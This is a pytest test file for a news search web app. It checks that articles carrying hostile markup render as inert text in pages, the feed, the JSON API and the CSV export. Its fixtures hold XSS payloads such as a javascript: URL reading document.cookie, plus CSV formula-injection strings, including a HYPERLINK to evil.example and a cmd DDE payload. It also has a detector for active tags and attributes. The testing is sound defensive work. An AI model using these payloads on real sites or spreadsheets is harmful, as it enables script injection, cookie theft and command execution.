"""Hostile pages: an article carrying markup, event handlers, javascript: URLs and entities in
its title, body, source and URL is shown as text everywhere and never becomes active.

The articles are written to a jsonl here and indexed by the real indexer; every view is
fetched through the Flask test client and parsed (lxml for HTML, an XML parser for the
feed, ``json`` for the API, ``csv`` for the export) rather than grepped.
"""

from __future__ import annotations

import csv
import io
import json

import lxml.html
import pytest
from lxml import etree

from search.indexer import reindex

ATOM = "{http://www.w3.org/2005/Atom}"
MARK = "毒样本"  # a word every hostile article contains, to find them all with one query

EVIL = [
    {
        "id": "evil-script",
        "title": f'{MARK}<script>alert("title")</script>标题',
        "body": f"{MARK}正文<script>alert('body')</script>。<img src=x onerror=alert(1)>结束。",
        "url": "javascript:alert(document.cookie)",
        "source": '<script>alert("source")</script>',
        "published": "2024-03-01 10:00",
    },
    {
        "id": "evil-attr",
        "title": f'{MARK}"><img src=x onerror=alert(2)><a href="javascript:alert(3)">点</a>',
        "body": f'{MARK} <svg onload=alert(4)> <iframe src="javascript:alert(5)"></iframe> <a onclick="x()">a</a>',
        "url": " JavaScript:alert(6)",
        "source": '" onmouseover="alert(7)',
        "published": "2024-03-02 10:00",
    },
    {
        "id": "evil-entity",
        "title": f"{MARK}&lt;script&gt;alert(8)&lt;/script&gt; &amp;amp; &#60;b&#62; &#x3C;i&#x3E;",
        "body": f"{MARK}&lt;img src=x onerror=alert(9)&gt; &quot;引号&quot; &#39; &nbsp; ]]> <![CDATA[x]]> \u2028 end",
        "url": "data:text/html,<script>alert(10)</script>",
        "source": "&lt;b&gt;来源&lt;/b&gt;",
        "published": "2024-03-03 10:00",
    },
    {
        "id": "evil-csv",
        "title": f'=HYPERLINK("http://evil.example/?"&A1,"{MARK}点我")',
        "body": f"+SUM(1+1) {MARK} -2+3 @SUM(A1) \t=1 \r=2",
        "url": "https://ok.example.com/a?b=1&c=2&d=%3Cx%3E",
        "source": "=cmd|' /C calc'!A0",
        "published": "2024-03-04 10:00",
        "category": "@SUM(1)",
        "authors": ["-记者"],
    },
    {
        "id": "good-http",
        "title": f"{MARK}正常报道",
        "body": f"{MARK}这是一篇正常的报道，原文链接是 http 地址。",
        "url": "http://news.example.cn/ok.html",
        "source": "+正常来源",
        "published": "2024-03-05 10:00",
    },
]
ALL_IDS = [r["id"] for r in EVIL]


@pytest.fixture(scope="module")
def client(tmp_path_factory):
    from web import create_app

    d = tmp_path_factory.mktemp("hostile-pages")
    src = d / "evil.jsonl"
    src.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in EVIL), "utf-8")
    s = reindex([src], d / "index", rebuild=True, procs=1)
    assert s.indexed == len(EVIL), s.problems
    return create_app({"INDEX_DIR": str(d / "index"), "TESTING": True}).test_client()


def active(doc) -> list[str]:
    """Every element or attribute in a parsed page that could run script."""
    found = []
    for el in doc.iter():
        if not isinstance(el.tag, str):
            continue
        tag = el.tag.rsplit("}", 1)[-1].lower()
        if tag == "script" and el.get("src") == "/static/xunwen.js" and not (el.text or "").strip():
            continue  # the page's own progressive-enhancement script, served from /static
        if tag in ("script", "iframe", "object", "embed", "base", "frame", "frameset", "applet"):
            found.append(f"<{tag}>")
        for name, value in el.attrib.items():
            if name.lower().startswith("on"):
                found.append(f"{tag}@{name}")
            if name.lower() in ("href", "src", "action", "formaction"):
                v = "".join(value.split()).lower()
                if not v.startswith(("http://", "https://", "/", "?", "#", "mailto:")) and ":" in v.split("/")[0]:
                    found.append(f"{tag}@{name}={value[:40]}")
    return found


def page(client, url: str):
    resp = client.get(url)
    assert resp.status_code == 200, (url, resp.status_code)
    text = resp.get_data(as_text=True)
    # The page's one script is our own static file (progressive enhancement); nothing else.
    own = '<script src="/static/xunwen.js" defer></script>'
    assert "<script" not in text.lower().replace(own, ""), url
    return lxml.html.document_fromstring(text), text


@pytest.mark.parametrize("url", [
    f"/?q={MARK}&collapse=false&size=50",
    f"/?q={MARK}&sort=newest&collapse=false",
    "/?q=alert&collapse=false",
    "/?q=script&collapse=false",
    "/?q=onerror",
    '/?q="<script>"',
] + [f"/article/{i}" for i in ALL_IDS] + [f"/article/{i}?q=alert script onerror" for i in ALL_IDS])
def test_pages_show_hostile_text_inert(client, url) -> None:
    doc, _ = page(client, url)
    assert active(doc) == []


def test_results_page_shows_the_markup_as_text(client) -> None:
    doc, _ = page(client, f"/?q={MARK}&collapse=false&size=50")
    text = doc.text_content()
    assert '<script>alert("title")</script>' in text
    assert "onerror=alert(2)" in text
    # Snippets highlight with <mark> only; the hostile markup stays text inside them.
    marks = doc.xpath("//mark")
    assert marks and all(not m.getchildren() for m in marks)
    # Entities in the data are shown as they were written, decoded once, never twice.
    assert "&lt;script&gt;alert(8)&lt;/script&gt;" in text


def test_links_to_originals_only_for_http_urls(client) -> None:
    doc, _ = page(client, f"/?q={MARK}&collapse=false&size=50")
    hrefs = [a.get("href") for a in doc.xpath("//a[@href]")]
    assert "http://news.example.cn/ok.html" in hrefs
    for h in hrefs:
        assert not "".join(h.split()).lower().startswith(("javascript:", "data:", "vbscript:")), h
    for aid in ALL_IDS:
        adoc, _ = page(client, f"/article/{aid}")
        external = [a.get("href") for a in adoc.xpath("//a[@href]") if "://" in a.get("href")]
        url = next(r["url"] for r in EVIL if r["id"] == aid)
        if url.startswith(("http://", "https://")):
            assert url in external, (aid, external)
        else:
            assert external == [], (aid, external)
            assert url.strip() in adoc.text_content()  # shown as text


def test_article_page_shows_every_field_as_text(client) -> None:
    doc, _ = page(client, "/article/evil-script")
    text = doc.text_content()
    for needle in ('<script>alert("title")</script>', "<script>alert('body')</script>",
                   "<img src=x onerror=alert(1)>", '<script>alert("source")</script>',
                   "javascript:alert(document.cookie)"):
        assert needle in text, needle


def test_feed_is_well_formed_and_inert(client) -> None:
    resp = client.get(f"/feed.xml?q={MARK}")
    assert resp.status_code == 200
    root = etree.fromstring(resp.get_data())
    entries = root.findall(f"{ATOM}entry")
    assert len(entries) == len(EVIL)
    titles = {e.findtext(f"{ATOM}title") for e in entries}
    assert EVIL[0]["title"] in titles and EVIL[2]["title"] in titles
    for e in entries:
        for link in e.findall(f"{ATOM}link"):
            assert link.get("href", "").startswith(("http://", "https://")), link.get("href")
        for el in e.iter():
            if el.get("type") == "html" and el.text:
                # A feed reader renders type="html" content: it must be inert once decoded.
                inner = lxml.html.fragment_fromstring(el.text, create_parent="div")
                assert active(inner) == [], el.text


def test_json_api_carries_the_data_unchanged(client) -> None:
    body = client.get(f"/api/search?q={MARK}&collapse=false&size=50").get_json()
    hits = {h["id"]: h for h in body["hits"]}
    assert set(hits) == set(ALL_IDS)
    for r in EVIL:
        h = hits[r["id"]]
        assert h["title"] == r["title"]  # data, exactly as published
        assert h["source"] == r["source"]
        for html_field in ("title_html", "snippet_html"):
            frag = lxml.html.fragment_fromstring(h[html_field] or "<span></span>", create_parent="div")
            assert active(frag) == [], h[html_field]
            assert {el.tag for el in frag.iter()} <= {"div", "mark"}, h[html_field]
    art = client.get("/api/articles/evil-script").get_json()["article"]
    assert art["body"] == EVIL[0]["body"] and art["url"] == EVIL[0]["url"]
    resp = client.get("/api/articles/evil-script")
    assert resp.mimetype == "application/json" and resp.headers["X-Content-Type-Options"] == "nosniff"


def test_csv_cells_are_formula_safe(client) -> None:
    resp = client.get(f"/api/search.csv?q={MARK}&collapse=false")
    assert resp.status_code == 200
    text = resp.get_data().decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text[1:])))
    assert len(rows) == 1 + len(EVIL)
    cells = [c for row in rows[1:] for c in row]
    for c in cells:
        assert not c.startswith(("=", "+", "-", "@", "\t", "\r")), c
    # The neutralized values are still there, readable.
    assert any(c.endswith(EVIL[3]["source"]) for c in cells)
    assert any(c.endswith("+正常来源") for c in cells)
